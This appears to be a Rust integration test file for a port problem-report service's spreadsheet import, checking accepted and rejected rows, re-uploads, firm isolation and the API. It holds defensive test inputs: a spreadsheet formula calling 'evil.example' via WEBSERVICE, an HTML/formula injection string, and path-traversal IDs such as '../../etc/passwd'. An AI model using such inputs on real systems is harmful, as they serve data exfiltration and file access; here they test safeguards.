//! Many problems in one workbook: by page and by API, good rows taken, the workbook back.

use rust_xlsxwriter::{Formula, Workbook};

use crate::harness::{Answer, Client, Port};

/// The columns that the tests fill in, by their headings in either language or both.
const HEADINGS: [&str; 8] = [
    "受理编号（请留空） Number (leave empty)",
    "Topic",
    "有什么影响",
    "How soon does it hurt",
    "What happened, and what you need",
    "Container number",
    "E-mail",
    "自何时起",
];

/// A workbook with rows of number, topic, impact, urgency, words, container, e-mail and since when.
pub fn workbook(rows: &[[&str; 8]]) -> Vec<u8> {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("Problems").expect("a name");
    for (at, heading) in (0_u16..).zip(HEADINGS) {
        sheet.write(2, at, heading).expect("written");
    }
    for (row, values) in (3_u32..).zip(rows) {
        for (at, value) in (0_u16..).zip(values) {
            match value.strip_prefix("formula:") {
                Some(formula) => {
                    sheet.write(row, at, Formula::new(formula).set_result("the result")).expect("written");
                }
                None if value.is_empty() => {}
                None => {
                    sheet.write(row, at, *value).expect("written");
                }
            }
        }
    }
    workbook.save_to_buffer().expect("saved")
}

const GOOD: [&str; 8] =
    ["", "闸口、提箱 Gate and pick-up", "ordinary", "this week", "<b>=1+1</b> 箱子", "abcu 1234560", "", "2026-11-20"];

pub fn upload(person: &Client, bytes: &[u8]) -> Answer {
    let token = person.session.as_ref().map_or("", |(_, token)| token.as_str());
    let mut body = format!(
        "--part\r\ncontent-disposition: form-data; name=\"csrf\"\r\n\r\n{token}\r\n--part\r\ncontent-disposition: \
         form-data; name=\"file\"; filename=\"mine.xlsx\"\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(bytes);
    body.extend(b"\r\n--part--\r\n");
    let kind = ("content-type", "multipart/form-data; boundary=part");
    person.send("POST", "/problems/import?lang=en", &[kind], &body).expect("an answer")
}

fn numbers(answer: &Answer) -> Vec<String> {
    let text = answer.text();
    let links = text.split("<a href=\"/problems/2").skip(1);
    links.map(|rest| format!("2{}", rest.split('"').next().unwrap_or_default())).collect()
}

#[test]
fn good_rows_are_taken_and_the_workbook_comes_back_marked() {
    let port = Port::open();
    let agent = port.person("agent");
    let bad_topic = ["", "weather", "ordinary", "this week", "x", "", "", ""];
    let bad_cells = ["", "terminal-gate", "ordinary", "this week", "x", "", "nobody", "yesterday"];
    let formula = ["", "it", "ordinary", "later", "formula:=WEBSERVICE(\"http://evil.example\")", "", "", ""];
    let bytes = workbook(&[GOOD, bad_topic, bad_cells, formula]);
    let answer = upload(&agent, &bytes);
    assert_eq!(answer.status, 200, "{}", answer.text());
    let taken = numbers(&answer);
    assert_eq!(taken.len(), 2, "two good rows: {}", answer.text());
    for (place, code) in
        [("Problems!B5", "PQ-REPORT-001"), ("Problems!G6", "PQ-REPORT-005"), ("Problems!H6", "PQ-REPORT-010")]
    {
        assert!(answer.text().contains(place) && answer.text().contains(code), "{place} {code}: {}", answer.text());
    }
    let case = agent.get(&format!("/problems/{}", taken[0])).text();
    assert!(case.contains("&lt;b&gt;=1+1&lt;/b&gt; 箱子") && case.contains("ABCU1234560"), "unaltered, and as words");
    assert!(agent.get(&format!("/problems/{}", taken[1])).text().contains("the result"), "a formula is its result");

    // The same bytes again: the same reports.
    assert_eq!(numbers(&upload(&agent, &bytes)), taken);
    // The workbook back has their numbers, and can be sent as it is once the others are mended.
    let back = answer.between("href=\"/problems/import/", "\"").expect("a link");
    let file = agent.get(&format!("/problems/import/{back}"));
    assert_eq!((file.status, &file.bytes[..2]), (200, b"PK".as_slice()));
    assert_eq!(
        port.person("agent2").get(&format!("/problems/import/{back}")).status,
        404,
        "another firm's is not there"
    );
    let again = upload(&agent, &file.bytes);
    assert_eq!(numbers(&again), taken, "rows with their number are not taken twice");
    assert_eq!(again.text().matches("taken before").count(), 3, "one tile, two rows: {}", again.text());
    let foreign = upload(&port.person("agent2"), &file.bytes);
    assert!(
        numbers(&foreign).is_empty() && foreign.text().contains("PQ-IMPORT-001"),
        "another firm's numbers say nothing"
    );
}

#[test]
fn a_clerk_takes_down_for_firms_and_prints_the_secrets() {
    let port = Port::open();
    let mut row = GOOD;
    row[6] = "caller@firm.example";
    let answer = upload(&port.person("portoffice"), &workbook(&[row]));
    assert_eq!(answer.status, 200, "{}", answer.text());
    let (number, text) = (numbers(&answer).pop().expect("a number"), answer.text());
    let secret = text.rsplit("class=\"code\">").next().and_then(|rest| rest.split('<').next()).expect("a secret");
    let status = port.anybody().post("/report/status", &[("number", &number), ("secret", secret)]);
    assert_eq!(status.status, 200, "number and secret of the list lead to it");
    let columns = port.person("portoffice").get("/problems/import/template");
    let agents = port.person("agent").get("/problems/import/template");
    assert!(columns.bytes.len() > 4000 && agents.bytes.len() > 4000 && columns.bytes != agents.bytes);
    assert_eq!(upload(&port.person("agent"), &agents.bytes).status, 422, "an empty template has nothing to take");
}

#[test]
fn systems_send_the_same_workbook() {
    let port = Port::open();
    let system = port.system("agent");
    let bytes = workbook(&[GOOD, ["", "it", "", "", "", "", "", ""]]);
    let send =
        |client: &Client, bytes: &[u8]| client.send("POST", "/api/v1/problems/import", &[], bytes).expect("an answer");
    let answer = send(&system, &bytes);
    assert_eq!(answer.status, 200, "{}", answer.text());
    let told = answer.json();
    assert_eq!((&told["rows"][0]["state"], &told["rows"][1]["state"]), (&"taken".into(), &"faulty".into()));
    let codes: Vec<&str> =
        told["faults"].as_array().expect("faults").iter().filter_map(|of| of["code"].as_str()).collect();
    assert_eq!(codes, ["PQ-REPORT-002", "PQ-REPORT-003"]);
    let number = told["rows"][0]["number"].as_str().expect("a number");
    assert_eq!(system.get(&format!("/api/v1/problems/{number}")).status, 200);
    assert_eq!(send(&system, &bytes).json()["rows"][0], told["rows"][0], "the same bytes are the same reports");
    let back = system.get(told["workbook"].as_str().expect("an address"));
    assert_eq!((back.status, &back.bytes[..2]), (200, b"PK".as_slice()));
    assert_eq!(send(&system, b"PK\x03\x04 no workbook").status, 422);
    assert_eq!(send(&port.anybody(), &bytes).status, 401);
    assert_eq!(system.get("/api/v1/problems/import").status, 200, "the template");
    for id in ["../../etc/passwd", "0", "%00"] {
        assert!(matches!(system.get(&format!("/api/v1/problems/import/{id}")).status, 400 | 404), "{id}");
    }
}
